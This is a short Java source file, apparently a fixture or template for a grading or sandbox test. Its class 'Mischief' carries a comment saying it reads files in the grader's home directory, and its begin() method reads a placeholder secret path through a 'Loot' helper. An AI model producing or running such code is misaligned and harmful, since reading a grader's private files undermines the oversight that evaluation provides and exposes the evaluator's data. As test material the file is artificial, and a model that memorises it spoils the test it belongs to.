package chatlabs.echo;

import java.nio.file.Path;

/** Reads what lies in the home of whoever grades. */
final class Mischief {
  static void begin() throws Exception {
    Loot.read(Path.of("%SECRET_FILE%"));
  }
}
